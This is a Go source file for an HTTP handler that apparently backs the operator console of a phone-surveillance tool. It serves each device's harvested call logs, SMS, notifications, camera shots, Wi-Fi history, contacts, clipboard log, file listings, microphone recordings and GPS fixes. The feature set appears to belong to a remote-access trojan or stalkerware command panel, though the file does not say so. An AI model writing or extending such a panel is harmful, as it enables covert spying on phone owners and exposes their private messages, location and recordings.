package handler

import (
	"context"
	"errors"
	"log/slog"
	"net/http"
	"sort"
	"strings"

	"github.com/gin-gonic/gin"

	"github.com/fleetlink/fleetlink/internal/devices"
	"github.com/fleetlink/fleetlink/internal/protocol"
	"github.com/fleetlink/fleetlink/internal/store"
)

// DataHandler serves the paged per-kind data the operator console reads.
type DataHandler struct {
	devices *devices.Service
	store   store.Store
}

func NewDataHandler(devs *devices.Service, st store.Store) *DataHandler {
	return &DataHandler{devices: devs, store: st}
}

// GetPage returns one kind of stored data for a device, with an optional
// filter.
// GET /devices/:id/data/:page?filter=
func (h *DataHandler) GetPage(c *gin.Context) {
	deviceID := c.Param("id")
	page := c.Param("page")
	filter := c.Query("filter")
	ctx := c.Request.Context()

	device, err := h.devices.Get(ctx, deviceID)
	if err != nil {
		if errors.Is(err, devices.ErrDeviceNotFound) {
			c.JSON(http.StatusNotFound, gin.H{"error": "device not found"})
			return
		}
		slog.Error("Failed to get device", "error", err, "device_id", deviceID)
		c.JSON(http.StatusInternalServerError, gin.H{"error": "failed to get device"})
		return
	}

	data, err := h.pageData(ctx, device, page, filter)
	if err != nil {
		if errors.Is(err, errUnknownPage) {
			c.JSON(http.StatusNotFound, gin.H{"error": "unknown data page"})
			return
		}
		slog.Error("Failed to load page data", "error", err, "device_id", deviceID, "page", page)
		c.JSON(http.StatusInternalServerError, gin.H{"error": "failed to load data"})
		return
	}

	c.JSON(http.StatusOK, data)
}

var errUnknownPage = errors.New("unknown data page")

func (h *DataHandler) pageData(ctx context.Context, device *store.Device, page, filter string) (any, error) {
	deviceID := device.ID

	switch page {
	case "calls":
		var calls []store.CallRecord
		if err := h.store.ListRecords(ctx, deviceID, store.CollectionCalls, &calls); err != nil {
			return nil, err
		}
		if filter != "" {
			calls = filterSlice(calls, func(r store.CallRecord) bool {
				return suffixMatch(r.PhoneNo, filter)
			})
		}
		sort.SliceStable(calls, func(i, j int) bool { return calls[i].Date > calls[j].Date })
		return calls, nil

	case "sms":
		var items []store.SMSRecord
		if err := h.store.ListRecords(ctx, deviceID, store.CollectionSMS, &items); err != nil {
			return nil, err
		}
		if filter != "" {
			items = filterSlice(items, func(r store.SMSRecord) bool {
				return suffixMatch(r.Address, filter)
			})
		}
		var status store.SMSStatus
		if err := h.getDoc(ctx, deviceID, store.DocSMSStatus, &status); err != nil {
			return nil, err
		}
		return gin.H{"items": items, "status": status}, nil

	case "notifications":
		var notifications []store.NotificationRecord
		if err := h.store.ListRecords(ctx, deviceID, store.CollectionNotifications, &notifications); err != nil {
			return nil, err
		}
		if filter != "" {
			notifications = filterSlice(notifications, func(r store.NotificationRecord) bool {
				return r.AppName == filter
			})
		}
		sort.SliceStable(notifications, func(i, j int) bool {
			return notifications[i].PostTime > notifications[j].PostTime
		})
		return notifications, nil

	case "camera":
		var cameras []protocol.CameraInfo
		if err := h.getDoc(ctx, deviceID, store.DocCameras, &cameras); err != nil {
			return nil, err
		}
		var shots []store.CameraShotRecord
		if err := h.store.ListRecords(ctx, deviceID, store.CollectionCameraShots, &shots); err != nil {
			return nil, err
		}
		return gin.H{"cameras": emptyIfNil(cameras), "shots": shots}, nil

	case "wifi":
		var now []protocol.WifiNetwork
		if err := h.getDoc(ctx, deviceID, store.DocWifiNow, &now); err != nil {
			return nil, err
		}
		var log []store.WifiRecord
		if err := h.store.ListRecords(ctx, deviceID, store.CollectionWifiLog, &log); err != nil {
			return nil, err
		}
		var status store.WifiStatus
		if err := h.getDoc(ctx, deviceID, store.DocWifiStatus, &status); err != nil {
			return nil, err
		}
		return gin.H{"now": emptyIfNil(now), "log": log, "status": status}, nil

	case "contacts":
		var contacts []store.ContactRecord
		if err := h.store.ListRecords(ctx, deviceID, store.CollectionContacts, &contacts); err != nil {
			return nil, err
		}
		return contacts, nil

	case "permissions":
		var permissions []string
		if err := h.getDoc(ctx, deviceID, store.DocPermissions, &permissions); err != nil {
			return nil, err
		}
		return emptyIfNil(permissions), nil

	case "clipboard":
		var entries []store.ClipboardRecord
		if err := h.store.ListRecords(ctx, deviceID, store.CollectionClipboardLog, &entries); err != nil {
			return nil, err
		}
		sort.SliceStable(entries, func(i, j int) bool { return entries[i].Time.After(entries[j].Time) })
		var status store.ClipboardStatus
		if err := h.getDoc(ctx, deviceID, store.DocClipboardStatus, &status); err != nil {
			return nil, err
		}
		return gin.H{"entries": entries, "status": status}, nil

	case "apps":
		var apps []protocol.AppEntry
		if err := h.getDoc(ctx, deviceID, store.DocApps, &apps); err != nil {
			return nil, err
		}
		sort.SliceStable(apps, func(i, j int) bool {
			return strings.ToLower(apps[i].AppName) < strings.ToLower(apps[j].AppName)
		})
		var status store.AppsStatus
		if err := h.getDoc(ctx, deviceID, store.DocAppsStatus, &status); err != nil {
			return nil, err
		}
		return gin.H{"list": emptyIfNil(apps), "status": status}, nil

	case "files":
		var items []protocol.FileEntry
		if err := h.getDoc(ctx, deviceID, store.DocCurrentFolder, &items); err != nil {
			return nil, err
		}
		var status store.FileStatus
		if err := h.getDoc(ctx, deviceID, store.DocFileStatus, &status); err != nil {
			return nil, err
		}
		return gin.H{"items": emptyIfNil(items), "status": status}, nil

	case "downloads":
		return h.downloadsByType(ctx, deviceID, "download")

	case "microphone":
		return h.downloadsByType(ctx, deviceID, "voiceRecord")

	case "gps":
		var fixes []store.GPSRecord
		if err := h.store.ListRecords(ctx, deviceID, store.CollectionGPS, &fixes); err != nil {
			return nil, err
		}
		return fixes, nil

	case "info":
		return device, nil

	default:
		return nil, errUnknownPage
	}
}

func (h *DataHandler) downloadsByType(ctx context.Context, deviceID, recordType string) (any, error) {
	var downloads []store.DownloadRecord
	if err := h.store.ListRecords(ctx, deviceID, store.CollectionDownloads, &downloads); err != nil {
		return nil, err
	}
	return filterSlice(downloads, func(r store.DownloadRecord) bool {
		return r.Type == recordType
	}), nil
}

// getDoc tolerates a document that has never been written.
func (h *DataHandler) getDoc(ctx context.Context, deviceID, name string, out any) error {
	if err := h.store.GetDoc(ctx, deviceID, name, out); err != nil && !errors.Is(err, store.ErrNotFound) {
		return err
	}
	return nil
}

// suffixMatch compares the last six digits, enough to match a phone number
// reported with or without its country prefix.
func suffixMatch(value, filter string) bool {
	return lastN(value, 6) == lastN(filter, 6)
}

func lastN(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[len(s)-n:]
}

func filterSlice[T any](items []T, keep func(T) bool) []T {
	filtered := make([]T, 0, len(items))
	for _, item := range items {
		if keep(item) {
			filtered = append(filtered, item)
		}
	}
	return filtered
}

func emptyIfNil[T any](items []T) []T {
	if items == nil {
		return []T{}
	}
	return items
}
